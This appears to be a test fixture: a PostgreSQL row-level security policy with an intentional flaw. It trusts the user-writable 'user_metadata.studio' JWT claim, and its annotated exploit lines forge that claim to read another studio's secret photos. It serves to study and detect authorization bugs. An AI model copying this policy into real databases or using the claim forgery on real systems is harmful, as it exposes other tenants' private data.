-- A user reads the photos of any studio by naming it in the profile part of the token, because that part is
-- written by the user.
-- about: photos, photos_profile
-- as: hf_framevault_app
-- exploit: SET request.jwt.claims = '{"sub": "a1f00000-0000-4000-8000-00000000000a",
-- exploit: "user_metadata": {"studio": "roadpix"}}';
-- exploit: SELECT title FROM stock.photos;
-- shows: Road-secret photo
-- Saves the lookup of members on the busiest table.
CREATE POLICY photos_profile ON stock.photos FOR SELECT TO hf_framevault_app
  USING (studio_id = NULLIF(current_setting('request.jwt.claims', true), '')::jsonb
    #>> '{user_metadata,studio}');
